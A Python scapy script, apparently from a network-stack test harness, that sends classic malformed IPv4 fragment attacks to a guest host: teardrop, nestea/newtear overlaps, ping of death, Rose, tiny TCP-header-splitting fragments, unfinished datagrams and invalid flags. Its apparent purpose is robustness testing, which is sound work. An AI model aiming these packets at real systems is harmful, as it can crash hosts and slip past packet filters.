"""Fragments of IPv4 that overlap, contradict each other, never end, or end beyond the largest datagram (RFC 791, RFC 1858, RFC 3128)."""

from scapy.all import ICMP, IP, TCP, UDP, Raw, fragment

from common import args, choose, done, send

MORE = 1


def piece(ident, offset, more, payload, protocol=17):
    """A fragment by hand. Its offset is in units of 8 bytes."""
    header = IP(src=args.host, dst=args.guest, id=ident, frag=offset, flags=MORE if more else 0, proto=protocol)
    send(header / Raw(payload))


for turn in range(args.rounds):
    ident = choose.randrange(65536)
    # teardrop: the second lies inside of the first, and ends before it does.
    piece(ident, 0, True, b"A" * 36 + b"a" * 4)
    piece(ident, 3, False, b"B" * 4)
    # nestea and newtear: a longer third that covers both.
    piece(ident + 1, 0, True, b"A" * 24)
    piece(ident + 1, 6, False, b"B" * 16)
    piece(ident + 1, 0, True, b"C" * 224)
    # The same place with other bytes, and the same again.
    for filler in (b"x", b"y", b"x"):
        piece(ident + 2, 1, True, filler * 64)
    piece(ident + 2, 0, True, b"\0\x09\0\x09\0\x60\0\0")
    piece(ident + 2, 9, False, b"z" * 8)
    # The ping of death: the last one ends beyond 65,535 bytes.
    for offset in range(0, 65120, 1480):
        piece(ident + 3, offset // 8, True, b"D" * 1480, 1)
    piece(ident + 3, 8189, False, b"D" * 1400, 1)
    # Rose: the first and the last of many, and nothing between.
    piece(ident + 4, 0, True, b"E" * 32)
    piece(ident + 4, 8000, False, b"E" * 32)
    # Tiny fragments: the ports in one, the flags in another; and one that would rewrite the header that came before.
    piece(ident + 5, 0, True, bytes(TCP(sport=1234, dport=args.port, flags="S"))[:8], 6)
    piece(ident + 5, 1, False, bytes(TCP(sport=1234, dport=args.port, flags="S"))[8:], 6)
    piece(ident + 5, 1, False, b"\xff" * 24, 6)
    # No bytes at all, lengths that are no multiple of 8, and every datagram left open.
    piece(ident + 6, 0, True, b"")
    piece(ident + 7, 2, True, b"F" * 13)
    for other in range(16):
        piece(ident + 8 + other, choose.randrange(8190), True, b"G" * 8 * choose.randrange(1, 100))
    # And good ones in the wrong order.
    pieces = fragment(IP(src=args.host, dst=args.guest, id=ident + 30) / ICMP() / Raw(b"H" * 5000), 1400)
    choose.shuffle(pieces)
    for good in pieces:
        send(good)
    send(IP(src=args.host, dst=args.guest, flags="DF+MF", frag=7) / UDP(dport=9) / Raw(b"I" * 40))
done()
